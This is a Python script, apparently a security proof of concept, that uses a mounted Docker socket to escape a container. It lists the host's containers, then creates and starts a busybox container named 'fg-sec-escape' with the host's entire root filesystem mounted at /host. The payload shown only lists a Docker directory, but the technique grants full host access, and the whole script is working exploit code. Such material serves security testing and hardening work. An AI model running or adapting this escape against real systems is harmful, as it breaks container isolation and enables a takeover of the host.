# Talks to the Docker engine through /var/run/docker.sock, exactly as the docker CLI does.
# Run in a container that has the socket mounted, it controls the engine of the host.
import http.client
import json
import socket
import time


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.socket_path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.socket_path)


def api(method, url, body=None):
    conn = UnixConnection("/var/run/docker.sock")
    conn.request(method, url, json.dumps(body) if body else None, {"Content-Type": "application/json"})
    response = conn.getresponse()
    data = response.read()
    return json.loads(data) if data else None


print("containers on the host:")
for c in sorted(api("GET", "/containers/json"), key=lambda c: c["Names"][0]):
    print(" ", c["Names"][0], c["Image"])

# A new container on the host, as root, with the host's / mounted at /host.
api("POST", "/containers/create?name=fg-sec-escape", {
    "Image": "busybox:1.36",
    "Cmd": ["ls", "/host/var/lib/docker"],
    "HostConfig": {"Binds": ["/:/host"]},
})
api("POST", "/containers/fg-sec-escape/start")
api("POST", "/containers/fg-sec-escape/wait")
print("started fg-sec-escape with the host's / mounted at /host")
